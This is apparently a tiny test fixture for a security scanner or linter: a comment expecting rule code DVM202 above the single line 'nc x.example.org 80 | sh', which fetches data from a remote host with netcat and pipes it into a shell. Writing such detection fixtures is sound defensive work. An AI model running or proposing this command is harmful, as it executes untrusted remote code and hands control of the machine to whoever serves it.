# expect: DVM202
nc x.example.org 80 | sh
